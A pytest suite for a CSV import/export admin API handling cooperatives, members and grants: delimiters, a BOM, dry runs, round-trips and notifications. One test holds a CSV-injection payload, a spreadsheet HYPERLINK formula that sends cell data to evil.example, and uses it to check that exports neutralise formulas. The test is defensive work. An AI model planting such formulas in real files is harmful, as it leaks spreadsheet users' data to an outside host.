"""test_csv.py -- CSV import and export through the admin API: French and
English headers, semicolons, a UTF-8 BOM, phones normalised; a dry run that
reports every bad row (line, column, reason) and writes nothing; a real
import that is all or nothing; created / updated / unchanged counts and a
re-import that changes nothing; grant status changes by CSV notifying each
grant once; exports (BOM, CRLF, quoted fields) that round-trip with Arabic
intact; audit rows; roles and media types.
Standard library only (plus pytest)."""

import csv
import io
import shutil
import subprocess

import pytest

from conftest import DELETE, query
from test_admin_api import Api, audit_rows, make_token

CSV_CT = {"Content-Type": "text/csv"}


@pytest.fixture
def env(daemons):
    conf = daemons.config({"programme.demo_data": DELETE, "http.max_body_bytes": 1048576})
    staff = make_token(conf, "staff-csv", "staff")
    viewer = make_token(conf, "viewer-csv", "viewer")
    d = daemons.start(config=conf)
    return d, Api(d, staff), Api(d, viewer)


def upload(api, kind, text, dry_run=False, bom=False, headers=None):
    data = (b"\xef\xbb\xbf" if bom else b"") + text.encode("utf-8")
    path = f"/import/{kind}" + ("?dry_run=1" if dry_run else "")
    return api.call("POST", path, raw=data, headers=headers or CSV_CT)


def counts(r):
    j = r.json()
    return (j["created"], j["updated"], j["unchanged"])


COOPS_FR = (
    "Code coopérative;Nom;Province;Secteur;Téléphone contact\r\n"
    "0101;تعاونية الأمل;nador;agriculture;0611223344\r\n"
    "0102;\"Coopérative Argane; Berkane\";Berkane;AGRIFOOD;\r\n"
)


def test_cooperatives_french_headers_semicolons_bom_and_round_trip(env):
    d, st, viewer = env
    r = upload(st, "cooperatives", COOPS_FR, bom=True)
    assert r.status == 200, r
    j = r.json()
    assert counts(r) == (2, 0, 0) and j["delimiter"] == ";" and j["bom"] is True
    rows = query(d, "SELECT * FROM cooperatives ORDER BY code")
    assert rows[0]["name"] == "تعاونية الأمل" and rows[0]["contact_phone"] == "+212611223344"
    assert rows[1]["name"] == "Coopérative Argane; Berkane" and rows[1]["province"] == "berkane"
    assert rows[1]["sector"] == "agrifood" and rows[1]["contact_phone"] is None
    # The same file again changes nothing.
    r = upload(st, "cooperatives", COOPS_FR)
    assert counts(r) == (0, 0, 2)
    # Export: BOM, CRLF, every field quoted, Arabic intact.
    e = viewer.get("/export/cooperatives")
    assert e.status == 200 and e.headers["content-type"] == "text/csv; charset=utf-8"
    assert e.body.startswith(b"\xef\xbb\xbf")
    text = e.body[3:].decode("utf-8")
    lines = text.split("\r\n")
    assert lines[0] == '"code","name","province","sector","contact_phone"'
    assert lines[1] == '"0101","تعاونية الأمل","nador","agriculture","+212611223344"'
    assert text.endswith("\r\n")
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed[2] == ["0102", "Coopérative Argane; Berkane", "berkane", "agrifood", ""]
    # The export imported back: unchanged, Arabic and all.
    r = st.call("POST", "/import/cooperatives", raw=e.body, headers=CSV_CT)
    assert r.status == 200 and counts(r) == (0, 0, 2) and r.json()["delimiter"] == ","
    # An edited export updates one row.
    r = upload(st, "cooperatives", text.replace("تعاونية الأمل", "تعاونية الأمل الجديدة"))
    assert counts(r) == (0, 1, 1)
    assert query(d, "SELECT name FROM cooperatives WHERE code='0101'")[0]["name"] == \
        "تعاونية الأمل الجديدة"
    audits = [a for a in audit_rows(d) if a["action"] == "import.cooperatives"]
    assert len(audits) == 4  # every committed import, unchanged ones too


def test_export_neutralises_formulas_and_round_trips(env):
    """OWASP CSV injection: a name that a spreadsheet would run as a formula
    is exported behind an apostrophe, phone numbers stay numbers, and the
    export imports back unchanged."""
    d, st, viewer = env
    evil = '=HYPERLINK("http://evil.example/?"&A2,"Voir")'
    text = ("code,name,province,sector,contact_phone\r\n"
            f'0201,"{evil.replace(chr(34), chr(34) * 2)}",nador,agriculture,0611223344\r\n'
            "0202,@SUM(A1:A9),nador,agriculture,\r\n")
    r = upload(st, "cooperatives", text)
    assert r.status == 200 and counts(r) == (2, 0, 0), r
    assert query(d, "SELECT name FROM cooperatives WHERE code='0201'")[0]["name"] == evil
    e = viewer.get("/export/cooperatives")
    lines = e.body[3:].decode("utf-8").split("\r\n")
    assert lines[1] == ('"0201","\'=HYPERLINK(""http://evil.example/?""&A2,""Voir"")",'
                        '"nador","agriculture","+212611223344"')
    assert lines[2].startswith('"0202","\'@SUM(A1:A9)"')
    r = st.call("POST", "/import/cooperatives", raw=e.body, headers=CSV_CT)
    assert r.status == 200 and counts(r) == (0, 0, 2), r.json()


@pytest.mark.skipif(not shutil.which("libreoffice"), reason="LibreOffice is not installed")
def test_export_opens_in_libreoffice(env, tmp_path):
    d, st, viewer = env
    upload(st, "cooperatives", COOPS_FR)
    f = tmp_path / "coops.csv"
    f.write_bytes(viewer.get("/export/cooperatives").body)
    # A profile of its own: a second LibreOffice on the same profile (another
    # test run on this machine) hands its work to the first and may hang.
    profile = (tmp_path / "lo-profile").as_uri()
    subprocess.run(["libreoffice", f"-env:UserInstallation={profile}", "--headless",
                    "--convert-to", "xlsx", "--outdir", str(tmp_path), str(f)],
                   check=True, timeout=120, capture_output=True)
    assert (tmp_path / "coops.xlsx").exists()


MEMBERS_BAD = (
    "telephone,nom,code_cooperative,province,secteur,sexe,annee_naissance,langue,consentement\n"
    "0612345601,Fatima Zahra,0101,nador,agriculture,F,1990,ar,oui\n"
    "12345,Bad Phone,,nador,,,,fr,\n"
    "0612345603,Ahmed,0999,atlantis,agriculture,x,1600,de,peut-etre\n"
    "0612345601,Twice,,,,,,,\n"
    "\"+212 6 12 34 56 05\",\"Multi\nline\",,berkane,,homme,1985,fr,non\n"
)


def test_members_dry_run_and_all_or_nothing(env):
    d, st, _ = env
    upload(st, "cooperatives", COOPS_FR)
    before = query(d, "SELECT count(*) AS n FROM members")[0]["n"]
    r = upload(st, "members", MEMBERS_BAD, dry_run=True)
    assert r.status == 422, r
    rep = r.json()["report"]
    assert rep["dry_run"] is True and rep["rows"] == 5
    errs = {(e["line"], e["column"]) for e in rep["errors"]}
    assert (3, "telephone") in errs
    for col in ("code_cooperative", "province", "sexe", "annee_naissance", "langue",
                "consentement"):
        assert (4, col) in errs, (col, rep["errors"])
    assert (5, "telephone") in errs       # the same phone as line 2
    assert all(e["reason"] for e in rep["errors"])
    assert query(d, "SELECT count(*) AS n FROM members")[0]["n"] == before
    # A real import of the same file: 422, nothing written.
    r = upload(st, "members", MEMBERS_BAD)
    assert r.status == 422 and r.json()["error"]["code"] == "invalid_rows"
    assert query(d, "SELECT count(*) AS n FROM members")[0]["n"] == before
    assert not [a for a in audit_rows(d) if a["action"] == "import.members"]
    # Without the bad rows: a dry run writes nothing, then the import does.
    good = "\n".join(l for i, l in enumerate(MEMBERS_BAD.split("\n")) if i not in (2, 3, 4))
    r = upload(st, "members", good, dry_run=True)
    assert r.status == 200 and counts(r) == (2, 0, 0), r
    assert query(d, "SELECT count(*) AS n FROM members")[0]["n"] == before
    r = upload(st, "members", good)
    assert r.status == 200 and counts(r) == (2, 0, 0), r
    m = query(d, "SELECT m.*, c.code FROM members m LEFT JOIN cooperatives c"
                 " ON c.id = m.cooperative_id ORDER BY m.id")
    assert [x["phone"] for x in m] == ["+212612345601", "+212612345605"]
    assert m[0]["gender"] == "f" and m[0]["code"] == "0101" and m[0]["consent_at"]
    assert m[1]["name"] == "Multi\nline" and m[1]["gender"] == "m" and m[1]["consent_at"] is None
    assert upload(st, "members", good).json()["unchanged"] == 2
    # English headers, only some columns: the others keep their values.
    r = upload(st, "members", "phone,language\n0612345601,fr\n")
    assert counts(r) == (0, 1, 0)
    x = query(d, "SELECT * FROM members WHERE phone='+212612345601'")[0]
    assert x["language"] == "fr" and x["name"] == "Fatima Zahra" and x["birth_year"] == 1990
    # Export round-trip: unchanged.
    e = st.get("/export/members")
    r = st.call("POST", "/import/members", raw=e.body, headers=CSV_CT)
    assert r.status == 200 and counts(r) == (0, 0, 2), r


def test_grant_status_by_csv_notifies_each_grant_once(env):
    d, st, viewer = env
    upload(st, "cooperatives", COOPS_FR)
    upload(st, "members", "phone,name,language,consent\n0612345611,Salma,fr,yes\n"
                          "0612345612,Karim,ar,yes\n")
    grants = ("reference,member_phone,cooperative_code,programme,amount_mad,status,note_fr\n"
              "GR-T-1,0612345611,,Tahfiz,\"15 000\",submitted,\n"
              "GR-T-2,0612345612,,Tahfiz,20000,submitted,\n"
              "GR-T-3,,0101,Coop+,50000,under_review,\n")
    r = upload(st, "grants", grants)
    assert r.status == 200 and counts(r) == (3, 0, 0) and r.json()["notified"] == 0, r
    assert query(d, "SELECT amount_mad FROM grants WHERE reference='GR-T-1'")[0]["amount_mad"] \
        == 15000
    assert not query(d, "SELECT 1 FROM messages WHERE direction='out'")
    # French headers and statuses: two status changes, one note change.
    change = ("reference;statut;note_fr\n"
              "GR-T-1;approuvé;Bravo\n"
              "GR-T-2;documents_missing;Envoyez la CIN\n"
              "GR-T-3;under_review;Dossier complet\n")
    r = upload(st, "grants", change)
    assert r.status == 200 and counts(r) == (0, 3, 0) and r.json()["notified"] == 3 - 1, r
    msgs = query(d, "SELECT phone, body FROM messages WHERE direction='out' ORDER BY id")
    assert [m["phone"] for m in msgs] == ["+212612345611", "+212612345612"]
    assert "Bravo" in msgs[0]["body"]
    hist = query(d, "SELECT g.reference, h.status FROM grant_history h JOIN grants g"
                    " ON g.id = h.grant_id ORDER BY h.id")
    assert [(h["reference"], h["status"]) for h in hist] == [
        ("GR-T-1", "approved"), ("GR-T-2", "documents_missing")]
    # The same file again: nothing changes, nobody is notified twice.
    r = upload(st, "grants", change)
    assert counts(r) == (0, 0, 3) and r.json()["notified"] == 0
    assert len(query(d, "SELECT 1 FROM messages WHERE direction='out'")) == 2
    # A grant for a member that does not exist: the whole file is refused.
    r = upload(st, "grants", "reference,member_phone,programme,amount_mad\n"
                             "GR-T-9,0612345699,Tahfiz,10\nGR-T-1,0612345611,Tahfiz,1\n")
    assert r.status == 422
    assert r.json()["report"]["errors"][0]["column"] == "member_phone"
    assert query(d, "SELECT amount_mad FROM grants WHERE reference='GR-T-1'")[0]["amount_mad"] \
        == 15000
    # Export and round-trip.
    e = viewer.get("/export/grants")
    rows = list(csv.reader(io.StringIO(e.body[3:].decode("utf-8"))))
    assert rows[0][:6] == ["reference", "member_phone", "cooperative_code", "programme",
                           "amount_mad", "status"]
    assert rows[1][:6] == ["GR-T-1", "+212612345611", "", "Tahfiz", "15000", "approved"]
    r = st.call("POST", "/import/grants", raw=e.body, headers=CSV_CT)
    assert counts(r) == (0, 0, 3) and r.json()["notified"] == 0


def test_import_errors_roles_and_media_types(env):
    d, st, viewer = env
    assert upload(viewer, "members", "phone\n0612345601\n").status == 403
    r = upload(st, "members", "phone\n0612345601\n", headers={"Content-Type": "application/json"})
    assert r.status == 415
    assert upload(st, "planets", "x\n1\n").status == 404
    assert viewer.get("/export/planets").status == 404
    r = upload(st, "members", "name,province\nX,nador\n")
    assert r.status == 422
    e = r.json()["report"]["errors"][0]
    assert e["line"] == 1 and "phone" in e["reason"]
    r = upload(st, "members", "phone,colour\n0612345601,blue\n")
    assert r.status == 422 and r.json()["report"]["errors"][0]["column"] == "colour"
